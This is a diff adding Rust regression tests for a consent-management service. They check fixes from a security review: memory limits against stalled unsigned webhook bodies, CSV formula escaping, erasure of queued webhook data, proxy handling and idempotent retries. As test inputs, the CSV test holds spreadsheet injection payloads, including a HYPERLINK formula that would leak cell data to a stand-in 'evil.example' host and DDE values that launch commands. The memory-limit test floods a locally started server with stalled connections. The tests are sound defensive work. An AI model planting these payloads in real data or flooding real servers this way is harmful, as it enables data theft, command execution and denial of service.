@@ -1,0 +1,568 @@
+//! What a hostile tester found (the security and integrity round), each kept fixed by a test.
+
+use crate::helpers::browser::{Browser, staff_user};
+use crate::helpers::*;
+use serde_json::json;
+use tokio::io::AsyncWriteExt;
+
+/// A process's resident and peak resident memory in KiB, from /proc.
+fn memory_kib(pid: u32) -> (u64, u64) {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
+    let field = |name: &str| {
+        status
+            .lines()
+            .find_map(|l| l.strip_prefix(name))
+            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
+            .unwrap()
+    };
+    (field("VmRSS:"), field("VmHWM:"))
+}
+
+/// Strangers who know an integration's name open many connections, each declaring a 10 MiB body
+/// signed with a made-up signature, send all of it but the last byte and stall. Before, each body was
+/// held whole until its signature could be checked (a 4.6 GiB peak from 300 such connections); now
+/// all unverified bodies together hold at most `ASSENT_UNVERIFIED_BODIES_MB`, the rest are refused
+/// with 503 at once, the health check still answers, and a real sender gets through afterwards.
+#[tokio::test]
+async fn stalled_unsigned_bodies_cannot_fill_the_servers_memory() {
+    let db = TestDb::migrated();
+    let secret = "an-hmac-secret-of-at-least-32-characters";
+    let out = db
+        .command(
+            &[
+                "integration",
+                "add",
+                "--name",
+                "shop",
+                "--hmac-secret",
+                secret,
+            ],
+            &[],
+        )
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let port = Binary::free_port();
+    let server = Binary::start(
+        &db,
+        port,
+        &[("ASSENT_UNVERIFIED_BODIES_MB", "32".into())],
+        false,
+    );
+    server.ready().await;
+    let pid = server.child.id();
+    let (before, _) = memory_kib(pid);
+
+    const CONNECTIONS: usize = 120;
+    const BODY: usize = 10 * 1024 * 1024 - 1;
+    let head = format!(
+        "POST /integrations/shop/webhook HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n\
+         Content-Length: {BODY}\r\nX-Hub-Signature-256: sha256={}\r\n\r\n",
+        "0".repeat(64)
+    );
+    let chunk = vec![b' '; 256 * 1024];
+    let mut attackers = Vec::new();
+    for _ in 0..CONNECTIONS {
+        let head = head.clone();
+        let chunk = chunk.clone();
+        attackers.push(tokio::spawn(async move {
+            let mut s = tokio::net::TcpStream::connect(("127.0.0.1", port))
+                .await
+                .unwrap();
+            s.write_all(head.as_bytes()).await.unwrap();
+            let mut sent = 0;
+            while sent + chunk.len() < BODY {
+                // A refused request's connection is closed by the server: writing then fails.
+                if s.write_all(&chunk).await.is_err() {
+                    return None;
+                }
+                sent += chunk.len();
+            }
+            if s.write_all(&chunk[..BODY - sent - 1]).await.is_err() {
+                return None;
+            }
+            // Everything but the last byte is sent; the connection stalls, held open.
+            Some(s)
+        }));
+    }
+    let mut stalled = Vec::new();
+    for a in attackers {
+        stalled.push(a.await.unwrap());
+    }
+    // (Whether a connection's bytes were taken by the server or still sit in the kernel's buffers, the
+    // sender cannot tell: the server's memory is what counts.)
+    let open = stalled.iter().filter(|s| s.is_some()).count();
+
+    // The server still answers while the stalled connections are open.
+    let http = reqwest::Client::new();
+    let live = http
+        .get(format!("{}/livez", server.base))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(live.status(), 200);
+    let (during, peak) = memory_kib(pid);
+    eprintln!(
+        "unverified bodies: {open} of {CONNECTIONS} connections still open; resident memory {} MiB before, {} MiB during, peak {} MiB",
+        before / 1024,
+        during / 1024,
+        peak / 1024
+    );
+    assert!(
+        peak < 300 * 1024,
+        "peak resident memory {} MiB, over the 300 MiB bound",
+        peak / 1024
+    );
+
+    // The stalled senders give up; the budget is free again for a real sender.
+    drop(stalled);
+    let body = json!({"email": "real@example.com", "agreements": {"email": true}, "consentedAt": "2026-05-01T10:00:00Z"});
+    let sig = crate::integrations::hub_signature(secret, &body);
+    eventually_async("a signed request is accepted again", || async {
+        let r = http
+            .post(format!("{}/integrations/shop/webhook", server.base))
+            .header("Content-Type", "application/json")
+            .header("X-Hub-Signature-256", &sig)
+            .body(body.to_string())
+            .send()
+            .await
+            .unwrap();
+        r.status() == 202
+    })
+    .await;
+    let (after, _) = memory_kib(pid);
+    eprintln!("resident memory after: {} MiB", after / 1024);
+    assert!(
+        after < 300 * 1024,
+        "{} MiB resident afterwards",
+        after / 1024
+    );
+}
+
+/// The firstName column of a CSV, read by the `csv` crate (not Assent's writer), keyed by email.
+fn first_names(text: &str) -> std::collections::BTreeMap<String, String> {
+    let mut r = csv::Reader::from_reader(text.as_bytes());
+    let header = r.headers().unwrap().clone();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let (email, first) = (col("email"), col("firstName"));
+    r.records()
+        .map(|rec| {
+            let rec = rec.unwrap();
+            (rec[email].to_string(), rec[first].to_string())
+        })
+        .collect()
+}
+
+/// Names typed into the public form or sent through the batch API that a spreadsheet would run as
+/// formulas come out of every CSV as text: a leading `'` (OWASP), in the API download, the dashboard
+/// download and `assent export`; `ASSENT_CSV_RAW=true` writes them as stored, for machine consumers.
+#[tokio::test]
+async fn spreadsheet_formulas_come_out_of_every_csv_as_text() {
+    let app = TestApp::spawn().await;
+    let key = app.api_key().await;
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?"&A2,"Open")"#;
+    let form = [
+        ("email", "form@example.com"),
+        ("name", hyperlink),
+        ("agreement", "newsletter_agreement"),
+    ];
+    assert_eq!(app.post("/subscribe", &form).await.0, 200);
+    let names = [
+        ("cmd@example.com", "+cmd|' /C calc'!A0"),
+        ("minus@example.com", "-2+3"),
+        ("at@example.com", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("plain@example.com", "Ann"),
+    ];
+    let items: Vec<_> = names
+        .iter()
+        .map(|(email, name)| json!({"email": email, "firstName": name, "agreements": {"email": true}}))
+        .collect();
+    batch(&app, &key, json!(items)).await;
+
+    let mut expected: Vec<(&str, String)> = names
+        .iter()
+        .map(|(e, n)| {
+            (
+                *e,
+                if *n == "Ann" {
+                    n.to_string()
+                } else {
+                    format!("'{n}")
+                },
+            )
+        })
+        .collect();
+    expected.push(("form@example.com", format!("'{hyperlink}")));
+    let check = |what: &str, text: &str, expected: &[(&str, String)]| {
+        let got = first_names(text);
+        for (email, name) in expected {
+            assert_eq!(got.get(*email), Some(name), "{what}, {email}: {text}");
+        }
+    };
+
+    let api = app
+        .http
+        .get(app.url("/api/v1/exports/profiles.csv"))
+        .bearer_auth(&key)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    check("API download", &api, &expected);
+
+    staff_user(&app, "abe@shop.example", "admin");
+    let admin = Browser::new(&app);
+    admin
+        .sign_in("abe@shop.example", "correct horse battery staple")
+        .await;
+    let (status, dashboard, _) = admin.get("/admin/exports/profiles.csv").await;
+    assert_eq!(status, 200);
+    check("dashboard download", &dashboard, &expected);
+
+    let out = app.cli(&["export"]);
+    assert!(out.status.success());
+    check(
+        "assent export",
+        &String::from_utf8_lossy(&out.stdout),
+        &expected,
+    );
+
+    let out = app.cli_env(&["export"], &[("ASSENT_CSV_RAW", "true")]);
+    assert!(out.status.success());
+    let raw: Vec<(&str, String)> = names
+        .iter()
+        .map(|(e, n)| (*e, n.to_string()))
+        .chain([("form@example.com", hyperlink.to_string())])
+        .collect();
+    check(
+        "assent export with ASSENT_CSV_RAW",
+        &String::from_utf8_lossy(&out.stdout),
+        &raw,
+    );
+}
+
+/// `assent webhook add … | head -1`: the reader goes away after the first line. The endpoint is made
+/// and the command ends quietly, as a Unix tool does, instead of panicking on the broken pipe.
+#[tokio::test]
+async fn a_command_whose_output_is_closed_ends_quietly() {
+    use std::os::unix::process::ExitStatusExt;
+    let app = TestApp::spawn().await;
+    // The reading end is closed before the command starts, so its first line already meets a broken pipe.
+    let (reader, writer) = std::io::pipe().unwrap();
+    drop(reader);
+    let out = app
+        .db
+        .command(
+            &[
+                "webhook",
+                "add",
+                "--url",
+                "http://127.0.0.1:9/hook",
+                "--events",
+                "consent.changed",
+            ],
+            &[ALLOW],
+        )
+        .stdout(writer)
+        .stderr(std::process::Stdio::piped())
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(!stderr.contains("panicked"), "{stderr}");
+    assert_eq!(
+        out.status.signal(),
+        Some(libc::SIGPIPE),
+        "{:?} {stderr}",
+        out.status
+    );
+    assert_eq!(
+        app.count("webhook_endpoints"),
+        1,
+        "the endpoint was made before the output"
+    );
+}
+
+/// A CSV that names its columns but holds no row is refused with a reason (it exited 0 before), and a
+/// header of many thousands of columns is refused at once instead of taking half a minute.
+#[tokio::test]
+async fn a_csv_without_rows_or_with_a_monstrous_header_is_refused_clearly() {
+    let app = TestApp::spawn().await;
+    let only_header = app.db.dir().join("only-header.csv");
+    std::fs::write(&only_header, "email,firstName,newsletter_agreement\n").unwrap();
+    let out = app.cli(&["import", only_header.to_str().unwrap()]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(stderr.contains("header line but no rows"), "{stderr}");
+
+    let wide = app.db.dir().join("wide.csv");
+    let header: Vec<String> = (0..138_889).map(|i| format!("c{i}")).collect();
+    std::fs::write(
+        &wide,
+        format!(
+            "{}\n{}\n",
+            header.join(","),
+            vec!["x"; header.len()].join(",")
+        ),
+    )
+    .unwrap();
+    let out = app.cli(&["import", wide.to_str().unwrap()]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(stderr.contains("at most 1000 are accepted"), "{stderr}");
+    assert_eq!(app.count("profiles"), 0);
+}
+
+async fn batch(app: &TestApp, key: &str, body: serde_json::Value) -> serde_json::Value {
+    let r = app
+        .http
+        .post(app.url("/v4/clients/batch"))
+        .bearer_auth(key)
+        .json(&body)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 202);
+    r.json().await.unwrap()
+}
+
+/// A "no" another system reports without a time is recorded (at the request's time), even for an
+/// agreement never given, so a "yes" reported for yesterday cannot revive it; in one request, `[no,
+/// yes]` without times ends "no" (on equal times a no wins). Recording a refusal of what was never
+/// given is proof, not news: no `consent.changed` webhook is queued for it.
+#[tokio::test]
+async fn a_reported_no_without_a_time_protects_itself() {
+    let app = TestApp::allowing_private_targets().await;
+    let key = app.api_key().await;
+    crate::webhooks::add_webhook(&app, "http://127.0.0.1:9/hook", "consent.changed", &[]);
+    let yesterday = (chrono::Utc::now() - chrono::Duration::days(1))
+        .format("%Y-%m-%dT%H:%M:%SZ")
+        .to_string();
+
+    batch(
+        &app,
+        &key,
+        json!([{"email": "x@example.com", "agreements": {"email": false}}]),
+    )
+    .await;
+    let answer = batch(
+        &app,
+        &key,
+        json!([{"email": "x@example.com", "agreements": {"email": true}, "consentedAt": yesterday}]),
+    )
+    .await;
+    assert_eq!(
+        answer["stale"][0]["agreement"], "newsletter_agreement",
+        "{answer}"
+    );
+    assert_eq!(
+        crate::batch::value_of(&app, "x@example.com", "newsletter_agreement").as_deref(),
+        Some("disabled")
+    );
+    assert_eq!(
+        app.count("consent_events WHERE value = 'disabled' AND previous = 'disabled' AND source LIKE 'api:%'"),
+        1,
+        "the refusal is in the ledger"
+    );
+
+    let answer = batch(
+        &app,
+        &key,
+        json!([
+            {"email": "y@example.com", "agreements": {"email": false}},
+            {"email": "y@example.com", "agreements": {"email": true}},
+        ]),
+    )
+    .await;
+    assert_eq!(
+        answer["stale"][0]["agreement"], "newsletter_agreement",
+        "{answer}"
+    );
+    assert_eq!(
+        crate::batch::value_of(&app, "y@example.com", "newsletter_agreement").as_deref(),
+        Some("disabled")
+    );
+    assert_eq!(
+        app.count("outbox WHERE channel = 'webhook' AND payload LIKE '%consent.changed%'"),
+        0,
+        "a refusal of what was never given is not sent as a change"
+    );
+    // A real change still is.
+    batch(
+        &app,
+        &key,
+        json!([{"email": "x@example.com", "agreements": {"email": true}}]),
+    )
+    .await;
+    assert_eq!(
+        crate::batch::value_of(&app, "x@example.com", "newsletter_agreement").as_deref(),
+        Some("enabled")
+    );
+    assert_eq!(
+        app.count("outbox WHERE channel = 'webhook' AND payload LIKE '%consent.changed%'"),
+        1
+    );
+}
+
+/// An erasure blanks the person's data in webhook deliveries still queued for a failing endpoint (they
+/// kept the email, customId, name and attributes, and a row that died later kept them for ever); the
+/// deliveries the erasure itself queues still tell the receiver whom to erase.
+#[tokio::test]
+async fn an_erasure_blanks_the_person_in_queued_webhook_deliveries() {
+    let app = TestApp::allowing_private_targets().await;
+    let key = app.api_key().await;
+    // Nothing listens on port 9: every delivery fails and stays queued for its retry.
+    crate::webhooks::add_webhook(
+        &app,
+        "http://127.0.0.1:9/hook",
+        "consent.changed,profile.created,profile.updated,profile.erased",
+        &[],
+    );
+    batch(
+        &app,
+        &key,
+        json!([{"email": "gone@example.com", "customId": "crm-gone", "firstName": "Secretname",
+                "lastName": "Hidden", "phone": "+48123456789", "attributes": {"city": "Lodzcity"},
+                "agreements": {"email": true}}]),
+    )
+    .await;
+    let personal = "outbox WHERE channel = 'webhook' AND (payload LIKE '%Secretname%' OR payload LIKE '%Hidden%' \
+                    OR payload LIKE '%Lodzcity%' OR payload LIKE '%48123456789%')";
+    assert_eq!(app.count(personal), 1, "profile.created carries the person");
+    let before = app.count("outbox WHERE channel = 'webhook'");
+
+    let out = app.cli(&["profile", "erase", "gone@example.com"]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(
+        app.count(personal),
+        0,
+        "no queued delivery keeps the person's data"
+    );
+    assert_eq!(
+        app.count(&format!(
+            "outbox WHERE channel = 'webhook' AND id <= (SELECT MAX(id) FROM outbox WHERE channel = 'webhook') - {} \
+             AND (payload LIKE '%gone@example.com%' OR payload LIKE '%crm-gone%')",
+            app.count("outbox WHERE channel = 'webhook'") - before
+        )),
+        0,
+        "the rows queued before the erasure lost the identifiers too"
+    );
+    assert_eq!(
+        app.count("outbox WHERE kind = 'profile.erased' AND payload LIKE '%gone@example.com%' AND payload LIKE '%crm-gone%'"),
+        1,
+        "the receiver still learns whom to erase"
+    );
+    assert_eq!(
+        app.count("outbox WHERE kind = 'consent.changed' AND payload LIKE '%\"value\":\"disabled\"%' AND payload LIKE '%gone@example.com%'"),
+        1,
+        "and of the withdrawal"
+    );
+}
+
+/// `HTTP_PROXY` in the server's environment is ignored (through a proxy, the private-address guard
+/// would only see the proxy's name): deliveries go to the target itself, and the would-be proxy sees
+/// no connection. A proxy is used only when `ASSENT_OUTGOING_PROXY` names one.
+#[tokio::test]
+async fn environment_proxies_are_ignored_by_outgoing_requests() {
+    use crate::helpers::receiver::Receiver;
+    let proxy = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let proxy_url = format!("http://{}", proxy.local_addr().unwrap());
+    let knocked = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let k = knocked.clone();
+    tokio::spawn(async move {
+        while let Ok((_s, _)) = proxy.accept().await {
+            k.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+        }
+    });
+    let db = TestDb::migrated();
+    let rx = Receiver::start().await;
+    let secret = crate::webhooks::webhook_on(&db, &rx.url);
+    rx.trust(&[&secret]);
+    let env = [
+        (ALLOW.0, ALLOW.1.to_string()),
+        ("HTTP_PROXY", proxy_url.clone()),
+        ("http_proxy", proxy_url.clone()),
+        ("ALL_PROXY", proxy_url),
+    ];
+    let server = Binary::start(&db, Binary::free_port(), &env, false);
+    server.ready().await;
+    let r = reqwest::Client::new()
+        .post(format!("{}/v4/clients/batch", server.base))
+        .bearer_auth(db.api_key())
+        .json(&json!([{"email": "direct@example.com", "agreements": {"email": true}}]))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 202);
+    assert_eq!(
+        rx.wait_for(1).await.len(),
+        1,
+        "delivered to the target itself"
+    );
+    assert_eq!(
+        knocked.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "the proxy saw nothing"
+    );
+}
+
+/// A sender that retries one Standard Webhooks message many times at once (a lost answer, an eager
+/// queue): every copy gets the same 2xx answer and the change is applied once, on both engines.
+#[tokio::test]
+async fn simultaneous_retries_of_one_message_apply_it_once_and_answer_alike() {
+    let app = TestApp::spawn().await;
+    let out = app.cli(&[
+        "integration",
+        "add",
+        "--name",
+        "peer",
+        "--standard-webhooks",
+    ]);
+    assert!(out.status.success());
+    let whsec = String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .last()
+        .unwrap()
+        .trim()
+        .to_string();
+    let body = json!({"email": "once@example.com", "agreements": {"email": true}}).to_string();
+    let now = chrono::Utc::now().timestamp();
+    let mut sends = tokio::task::JoinSet::new();
+    for i in 0..100 {
+        let ts = now - i % 5;
+        let sig =
+            assent::domain::signing::signature(&whsec, "msg_once", ts, body.as_bytes()).unwrap();
+        let req = app
+            .http
+            .post(app.url("/integrations/peer/webhook"))
+            .header("Content-Type", "application/json")
+            .header("webhook-id", "msg_once")
+            .header("webhook-timestamp", ts.to_string())
+            .header("webhook-signature", sig)
+            .body(body.clone());
+        sends.spawn(async move {
+            let r = req.send().await.unwrap();
+            (r.status().as_u16(), r.text().await.unwrap())
+        });
+    }
+    let answers = sends.join_all().await;
+    assert!(answers.iter().all(|(s, _)| *s == 202), "{answers:?}");
+    assert!(
+        answers.iter().all(|(_, a)| *a == answers[0].1),
+        "one answer for all: {answers:?}"
+    );
+    assert_eq!(app.count("consent_events"), 1, "applied once");
+    assert_eq!(
+        app.count("audit_log WHERE action = 'integration.replay'"),
+        99
+    );
+}
